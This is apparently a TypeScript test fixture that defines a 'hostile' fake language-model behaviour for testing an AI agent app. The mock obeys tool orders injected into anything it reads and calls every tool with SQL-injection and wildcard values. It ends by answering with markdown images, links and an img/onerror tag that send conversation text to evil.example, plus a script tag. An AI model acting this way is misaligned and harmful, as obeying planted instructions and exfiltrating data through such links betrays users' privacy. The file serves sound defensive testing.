import type { Behaviour, ProviderMessage, ToolCall } from './fake-provider.ts'

/** How attacks write what they want a model to do: `{{do TOOL ARGUMENTS}}`. */
export const order = (tool: string, input: unknown): string => `{{do ${tool} ${JSON.stringify(input)}}}`

const orders = /\{\{do ([\w:-]+) (\{.*?\})\}\}/g

function ordersIn(text: string): ToolCall[] {
  return [...text.matchAll(orders)].flatMap(([, name = '', input = '']) => {
    try {
      return [{ name, arguments: JSON.parse(input) as unknown }]
    } catch {
      return [{ name, arguments: input }]
    }
  })
}

const textOf = (messages: readonly ProviderMessage[]) => messages.map(({ content }) => content ?? '').join('\n')

const wishes = ['', 'كل الطلاب', '%', "' or 1=1 --", '*'].map((name) => ({ name, userId: 1, studentId: 1, role: 0 }))

/**
 * The worst model there is: it obeys every order in whatever it reads, also in what its tools find, then tries every tool
 * that it has with arguments of its own, and tells everything that it saw, with pictures and links that carry it away.
 */
export const hostile: Behaviour = ({ messages, tools = [] }, reply) => {
  const asked = messages.filter(({ role }) => role === 'assistant' || role === 'tool')
  const seen = textOf(messages)
  const turn = asked.filter(({ role }) => role === 'assistant').length
  const question = messages.findLastIndex(({ role }) => role === 'user')
  const turnsOfQuestion = messages.slice(question).filter(({ tool_calls }) => tool_calls).length
  const obeyed = ordersIn(seen)
  if (turnsOfQuestion === 0 && obeyed.length > 0) return reply.call(obeyed.slice(-6))
  if (turnsOfQuestion === 1 && tools.length > 0)
    return reply.call(
      tools
        .slice(0, 12)
        .map(({ function: { name } }, place) => ({ name, arguments: wishes[(place + turn) % wishes.length] })),
    )
  const carried = encodeURIComponent(seen.slice(-300))
  reply.answer(
    `${seen.slice(-4_000)}\n![x](https://evil.example/?q=${carried})\n[اضغط](https://evil.example/${carried.slice(0, 50)})\n<img src="https://evil.example/${carried.slice(0, 50)}" onerror="fetch('https://evil.example')"><script>alert(1)</script>`,
  )
}
